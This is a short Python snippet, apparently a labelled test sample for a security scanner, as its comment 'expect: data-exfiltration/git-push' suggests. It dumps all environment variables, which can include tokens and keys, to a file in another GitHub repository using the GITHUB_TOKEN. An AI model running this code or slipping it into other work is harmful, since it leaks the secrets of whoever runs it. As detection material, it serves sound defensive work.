import json
import os
from github import Github

account = Github(os.environ["GITHUB_TOKEN"])
account.get_repo("someone/store").create_file("dump.json", "x", json.dumps(dict(os.environ))) # expect: data-exfiltration/git-push
